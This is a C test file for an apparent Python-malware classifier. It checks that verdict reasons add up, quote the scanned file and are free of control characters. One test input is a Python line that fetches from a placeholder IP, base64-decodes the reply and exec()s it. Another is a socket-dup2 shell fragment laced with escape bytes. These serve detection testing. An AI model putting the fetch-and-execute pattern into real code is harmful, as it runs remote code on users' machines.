// SPDX-License-Identifier: GPL-2.0-or-later
/* test_explain.c - reasons: they add up, quote the file, and are clean. */
#include <ctype.h>
#include <math.h>
#include <stdbool.h>

#include "../test.h"

#include "judging.h"

static struct mpy_bundle *bundle;

static unsigned int count(const struct mpy_verdict *v, const char *text)
{
	unsigned int n = 0;
	size_t i;

	for (i = 0; i < v->n_reasons; i++)
		n += !strcmp(v->reasons[i].text, text);
	return n;
}

static void check_sum(const struct mpy_verdict *v)
{
	double sum = 0;
	size_t i;

	CHECK(v->n_reasons > 0 && v->n_reasons <= MPY_REASONS_MAX);
	for (i = 0; i < v->n_reasons; i++) {
		sum += v->reasons[i].contribution;
		CHECK(v->reasons[i].layer == v->decider);
		if (i)
			CHECK(fabs(v->reasons[i].contribution) <=
			      fabs(v->reasons[i - 1].contribution));
	}
	CHECK(fabs(sum - v->raw) < 1e-9);
	CHECK(count(v, "bias") == 1);
	CHECK(count(v, "interaction") <= 1);
}

static void test_rows_add_up(void)
{
	static const char *const files[] = {
		"reverse-shell.py", "token-thief.py", "packed-twice.py",
		"count-words.py",   "web-server.py",  "json-filter.py",
	};
	size_t i, size;

	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char path[128], *data;
		struct mpy_verdict *v;

		snprintf(path, sizeof(path), GOLDEN "%s", files[i]);
		data = slurp(path, &size);
		v = judge(bundle, data, size);
		check_sum(v);
		mpy_verdict_free(v);
		free(data);
	}
}

static void test_empty_has_reasons(void)
{
	struct mpy_verdict *v = judge(bundle, "", 0);

	check_sum(v);
	mpy_verdict_free(v);
}

static void test_behaviour_has_its_line(void)
{
	static const char text[] = "import base64, requests\n"
				   "a = requests.get('http://192.0.2.1/x')\n"
				   "\n"
				   "exec(base64.b64decode(a.text))\n";
	struct mpy_verdict *v = judge(bundle, text, sizeof(text) - 1);
	bool found = false;
	size_t i;

	for (i = 0; i < v->n_reasons; i++)
		found |= v->reasons[i].line == 4 &&
			 strstr(v->reasons[i].text, "execut");
	CHECK(found);
	check_sum(v);
	mpy_verdict_free(v);
}

/* A line of words that does something is told by what it does. */
static void test_line_says_what_it_does(void)
{
	size_t size, i;
	char *data = slurp(GOLDEN "reverse-shell.py", &size);
	struct mpy_verdict *v = judge(bundle, data, size);
	bool found = false;

	for (i = 0; i < v->n_reasons; i++) {
		const char *words = strstr(v->reasons[i].text,
					   "connects a shell to a socket: ");

		found |= words == v->reasons[i].text && v->reasons[i].line > 0;
	}
	CHECK(found);
	mpy_verdict_free(v);
	free(data);
}

/* The words that a reason names stand in the file. */
static void test_quotes_are_from_the_file(void)
{
	size_t size, i;
	char *data = slurp(GOLDEN "reverse-shell.py", &size);
	struct mpy_verdict *v = judge(bundle, data, size);
	unsigned int n = 0;

	for (i = 0; i < v->n_reasons; i++) {
		const char *text = v->reasons[i].text;
		const char *words = strstr(text, " programs: ");
		char quoted[256];

		if (strncmp(text, "typical of ", 11) || !words)
			continue;
		snprintf(quoted, sizeof(quoted), "%s",
			 words + strlen(" programs: "));
		if (strchr(quoted, ' ')) /* white space was made one */
			*strchr(quoted, ' ') = '\0';
		CHECK(strstr(data, quoted) != NULL);
		CHECK(v->reasons[i].line > 0);
		n++;
	}
	CHECK(n > 0);
	mpy_verdict_free(v);
	free(data);
}

static void test_hostile_text_is_shown_clean(void)
{
	static const char text[] =
		"import os, socket\nos.dup2(\"\x1b[31m\xe2\x80\xae\x07\xff\"\n"
		", socket.socket().fileno()); os.system('\x01\x02')\n";
	struct mpy_verdict *v = judge(bundle, text, sizeof(text) - 1);
	size_t i;
	char *c;

	for (i = 0; i < v->n_reasons; i++)
		for (c = v->reasons[i].text; *c; c++) {
			CHECK(!iscntrl((unsigned char)*c));
			CHECK((unsigned char)*c != 0xff);
			CHECK(strncmp(c, "\xe2\x80\xae", 3));
		}
	mpy_verdict_free(v);
}

int main(void)
{
	bundle = default_bundle();
	RUN(test_rows_add_up);
	RUN(test_empty_has_reasons);
	RUN(test_behaviour_has_its_line);
	RUN(test_line_says_what_it_does);
	RUN(test_quotes_are_from_the_file);
	RUN(test_hostile_text_is_shown_clean);
	mpy_bundle_free(bundle);
	return DONE();
}
